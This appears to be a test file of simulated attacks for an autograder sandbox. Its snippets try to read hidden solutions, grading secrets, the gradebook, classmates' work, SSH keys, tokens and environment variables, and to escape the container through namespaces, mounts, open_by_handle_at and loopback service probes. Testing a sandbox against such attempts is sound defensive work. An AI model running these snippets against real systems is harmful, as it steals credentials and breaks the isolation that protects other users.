"""Reading what a student may not see: solutions, hidden cases, others, home."""

from tests.faults.fault import thief

FAULTS = (
    thief(
        "reading-solutions-by-path",
        "The solutions are read by their path, and run.",
        """
steal(read(f"{ROOT}/solutions/warmup/warmup.py"))
steal_notebook(f"{ROOT}/solutions/warmup/warmup.ipynb")
""",
    ),
    thief(
        "reading-solutions-by-search",
        "The disk is searched for solutions.",
        """
places = [ROOT, os.path.dirname(ROOT), os.getcwd(), "/work", "/srv", "/home", "/opt"]
for path in [p for folder in places for p in listing(folder)]:
    if path.endswith("warmup.py"):
        text = read(path)
        if b"BEGIN SOLUTION" in text:
            steal(text)
""",
    ),
    thief(
        "reading-solutions-by-import",
        "The course is put on the path, and its solutions are imported.",
        """
import importlib
sys.path[:0] = [ROOT, f"{ROOT}/solutions/warmup"]
for name in ("solutions.warmup.warmup", "warmup", "autograder.reference.scripts"):
    module = attempt(importlib.import_module, name)
    take(vars(module) if module else {})
for key in [k for k in sys.modules if k.startswith("autograder")]:
    del sys.modules[key]
scripts = attempt(importlib.import_module, "autograder.reference.scripts")
take(attempt(lambda: scripts.namespace("warmup/warmup")) or {})
""",
    ),
    thief(
        "reading-solutions-compiled",
        "Byte code that Python left beside the solutions is run.",
        """
import marshal
for path in glob.glob(f"{ROOT}/**/__pycache__/*.pyc", recursive=True):
    data = read(path)
    if "warmup" in path:
        scope = {"__name__": "stolen"}
        attempt(lambda: exec(marshal.loads(data[16:]), scope))
        take(scope)
""",
    ),
    thief(
        "reading-solutions-by-cat",
        "Another program reads the solutions.",
        """
import subprocess
path = f"{ROOT}/solutions/warmup/warmup.py"
for command in (["cat", path], ["sh", "-c", f"cat {path}"], ["git", "-C", ROOT, "show"]):
    done = attempt(subprocess.run, command, capture_output=True, timeout=5)
    steal(done.stdout if done else b"")
steal(attempt(lambda: os.popen(f"cat {path}").read()) or "")
""",
    ),
    thief(
        "reading-solutions-by-link",
        "A link in the scratch folder leads to the solutions.",
        """
path = f"{ROOT}/solutions/warmup/warmup.py"
for link in (os.symlink, os.link):
    attempt(os.unlink, "mine.py")
    attempt(link, path, "mine.py")
    steal(read("mine.py"))
""",
    ),
    thief(
        "reading-solutions-by-dots",
        "The way out is up, by dots and by open folders.",
        """
path = "solutions/warmup/warmup.py"
for up in range(1, 12):
    steal(read("../" * up + ROOT.lstrip("/") + "/" + path))
for fd in range(0, 64):
    handle = attempt(os.open, ROOT.lstrip("/") + "/" + path, os.O_RDONLY, dir_fd=fd)
    if handle is not None:
        steal(os.read(handle, 1 << 20))
attempt(os.chroot, ".")
""",
    ),
    thief(
        "reading-mistakes",
        "The known mistakes and the exercises of the course are read.",
        """
for path in glob.glob(f"{ROOT}/autograder/*/*.py"):
    keep(read(path))
""",
    ),
    thief(
        "reading-hidden-cases",
        "The secret is read, and the hidden cases are drawn again.",
        """
keys = [read(f"{CLASS}/course.secret"), os.environ.get("AUTOGRADER_SECRET", "").encode()]
sys.path.insert(0, ROOT)
for name in [n for n in sys.modules if n.startswith("autograder")]:
    del sys.modules[name]
def draw(key):
    from autograder.exercises import all_exercises
    from autograder.reference.recorder import record
    return record(all_exercises()["relative_error"], key)
known = {}
for key in filter(None, keys):
    entry = attempt(draw, key)
    for question in entry.questions if entry else ():
        arrays = tuple(a.tobytes() for a in question.trace.arrays.values())
        known[arrays] = float(question.expected["error"].array)
if known:
    STOLEN["relative_error"] = lambda x, y: known.get((x.tobytes(), y.tobytes()), 0.25)
""",
    ),
    thief(
        "reading-gradebook",
        "The gradebook is opened as a database, and as a file.",
        """
import sqlite3
for path in (f"{CLASS}/gradebook.db", *glob.glob(f"{ROOT}/**/*.db", recursive=True)):
    keep(read(path, 1 << 26))
    base = attempt(sqlite3.connect, f"file:{path}?mode=ro", uri=True)
    for (line,) in attempt(base.execute, "select last_name from student") or () if base else ():
        keep(str(line))
""",
    ),
    thief(
        "reading-classmates",
        "Answers are copied from what others have handed in.",
        """
for path in sorted(glob.glob(f"{CLASS}/submitted/*/*/*.ipynb")):
    if "mate" in path:
        steal_notebook(path)
""",
    ),
    thief(
        "reading-graded-classmates",
        "Answers are copied from what has been graded, and from its feedback.",
        """
for path in sorted(glob.glob(f"{CLASS}/autograded/*/*/*.ipynb")):
    if "mate" in path:
        steal_notebook(path)
for path in glob.glob(f"{CLASS}/feedback/*/*/*"):
    read(path)
""",
    ),
    thief(
        "reading-home",
        "Files of the grader's home are read.",
        """
import pwd
homes = {HOME, os.path.expanduser("~"), attempt(lambda: pwd.getpwuid(os.getuid()).pw_dir)}
for home in filter(None, homes):
    for path in listing(home, 500):
        read(path)
""",
    ),
    thief(
        "reading-keys",
        "Keys and tokens are read where programs keep them.",
        """
for name in (".ssh/id_ed25519", ".netrc", ".config/token", ".jupyter/token", ".bashrc"):
    read(f"{HOME}/{name}")
    read(f"/root/{name}")
""",
    ),
    thief(
        "reading-own-environment",
        "The environment of this process is searched for secrets.",
        """
keep(" ".join(f"{k}={v}" for k, v in os.environ.items()))
read("/proc/self/environ")
libc.getenv.restype = ctypes.c_char_p
keep(libc.getenv(b"AUTOGRADER_SECRET") or b"")
""",
    ),
    thief(
        "reading-answer-key",
        "The answers of the public cases are given by heart.",
        """
known = {}
def remember():
    from safetensors.numpy import load
    for path in glob.glob(f"{ROOT}/assignments/warmup/*.safetensors"):
        known.update(load(read(path)))
attempt(remember)
numbers = [float(v) for a in known.values() for v in a.ravel()]
if numbers:
    STOLEN["relative_error"] = lambda x, y: numbers[0]
""",
    ),
    thief(
        "reading-temporary-files",
        "Folders that programs share are searched.",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lib", "/var/spool"):
    for path in listing(folder, 2000):
        if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
            text = read(path)
            if b"BEGIN SOLUTION" in text and path.endswith(".py"):
                steal(text)
""",
    ),
    thief(
        "reading-the-worker",
        "The program that serves this process is searched for answers.",
        """
import zipfile
for path in {*sys.path, *sys.argv}:
    if os.path.isfile(path):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                text = archive.read(name)
                keep(text)
                if b"BEGIN SOLUTION" in text:
                    steal(text)
for module in list(sys.modules.values()):
    take(vars(module)) if "reference" in getattr(module, "__name__", "") else None
""",
    ),
    thief(
        "reading-by-handle",
        "A file is opened by its number, past every folder (as in old containers).",
        """
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("id", ctypes.c_ubyte * 8)]
root = attempt(os.open, "/", os.O_RDONLY)
for inode in (2, 128):
    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(inode))
    fd = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0:
        name = f"{ROOT}/solutions/warmup/warmup.py".lstrip("/")
        file = attempt(os.open, name, os.O_RDONLY, dir_fd=fd)
        steal(os.read(file, 1 << 20) if file is not None else b"")
""",
    ),
    thief(
        "reading-other-rooms",
        "Namespaces are entered and made, and disks are mounted.",
        """
for kind in ("mnt", "user", "pid", "net"):
    for pid in (1, os.getppid()):
        fd = attempt(os.open, f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        if fd is not None:
            libc.setns(fd, 0)
libc.unshare(0x10000000 | 0x00020000)
attempt(os.mkdir, "disk")
libc.mount(b"/", b"disk", None, 4096, None)
libc.mount(b"proc", b"disk", b"proc", 0, None)
steal(read(f"disk{ROOT}/solutions/warmup/warmup.py"))
steal(read(f"{ROOT}/solutions/warmup/warmup.py"))
""",
    ),
    thief(
        "reading-loopback",
        "Services of this machine are called: a scheduler, Jupyter, a database.",
        """
for port in (TCP, 8786, 8787, 8888, 5432, 6379):
    def call(port=port):
        with socket.create_connection(("127.0.0.1", port), 0.3) as s:
            s.sendall(f"{NAME} GET / HTTP/1.0\\r\\n\\r\\n".encode())
            s.settimeout(0.3)
            keep(s.recv(4096))
    attempt(call)
leave("hello")
""",
    ),
)
